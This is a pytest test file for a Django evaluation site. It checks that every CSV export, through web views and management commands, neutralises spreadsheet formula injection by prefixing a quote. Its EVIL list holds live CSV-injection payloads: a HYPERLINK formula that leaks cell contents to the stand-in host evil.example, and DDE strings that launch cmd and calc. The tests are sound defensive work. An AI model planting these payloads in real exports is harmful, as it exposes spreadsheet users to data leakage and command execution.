"""Issue 12 (2): no CSV the app writes lets a spreadsheet evaluate a cell (OWASP CSV injection rule)."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command

from evalsite.csv_safe import FORMULA_START, csv_cell
from prompts.models import Prompt

pytestmark = pytest.mark.django_db

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", EVIL)
def test_formula_cells_get_a_leading_quote_and_keep_their_text(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["a cat", "", "'=already quoted", 3, -1.5, "-0.53", "+1", "1e-3", None])
def test_other_cells_are_left_alone(value):
    assert csv_cell(value) == value


def _no_formula(rows: list[list[str]]) -> int:
    """Cells a spreadsheet would evaluate (what the independent check counts); returns how many text cells it saw."""
    seen = 0
    for row in rows:
        for cell in row:
            seen += 1
            if cell.startswith(FORMULA_START):
                try:
                    float(cell)
                except ValueError:
                    raise AssertionError(f"formula cell exported verbatim: {cell!r}") from None
    return seen


@pytest.fixture
def evil_study(study_factory):
    study, models, prompts = study_factory(mode="both", n_models=2, n_prompts=len(EVIL), k=1)
    for p, text in zip(prompts, EVIL, strict=True):
        Prompt.objects.filter(pk=p.pk).update(text=text, category="=1+1")
    models[0].name = "=cmd|' /C calc'!A0"
    models[0].save()
    call_command("simulate_panel", study=study.pk, panelists=4, seed=1, stdout=io.StringIO())
    return study


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_every_export_neutralises_formulas(evil_study, client, tmp_path):
    staff = get_user_model().objects.create_superuser("boss", "b@x.org", "pw")
    client.force_login(staff)
    outputs = {}
    for name, file in (("ratings_csv", "ratings"), ("leaderboard_csv", "leaderboard"),
                       ("leaderboard_full_csv", "leaderboard-full")):
        for bom in ("", "?bom=1"):
            r = client.get(f"/studies/{evil_study.pk}/{file}.csv{bom}")
            assert r.status_code == 200, name
            outputs[f"{name}{bom}"] = b"".join(r.streaming_content).decode("utf-8")
    path = tmp_path / "ratings.csv"
    call_command("export_ratings", study=evil_study.pk, out=str(path), stdout=io.StringIO())
    outputs["export_ratings"] = path.read_text(encoding="utf-8")
    out = io.StringIO()
    call_command("leaderboard", study=evil_study.pk, format="csv", stdout=out)
    outputs["leaderboard --format csv"] = out.getvalue()
    out = io.StringIO()
    call_command("leaderboard", study=evil_study.pk, format="full", stdout=out)
    outputs["leaderboard --format full"] = out.getvalue()
    for name, text in outputs.items():
        rows = _csv(text)
        assert _no_formula(rows) > 0, name
    ratings = _csv(outputs["ratings_csv"])
    header = ratings[0]
    prompts = {r[header.index("prompt")] for r in ratings[1:]}
    assert prompts == {"'" + t for t in EVIL}  # neutralised, and otherwise the text as it was
    assert {r[header.index("category")] for r in ratings[1:]} == {"'=1+1"}
    assert "'=cmd|' /C calc'!A0" in {r[0] for r in _csv(outputs["leaderboard_csv"])[1:]}
    full = _csv(outputs["leaderboard_full_csv"])
    assert "'=cmd|' /C calc'!A0" in {r[full[0].index("model")] for r in full[1:]}
    assert "'=1+1" in {r[full[0].index("category")] for r in full[1:]}
    # numbers stay numbers (negative CI bounds, scores)
    assert all(r[header.index("score")].isdigit() for r in ratings[1:])
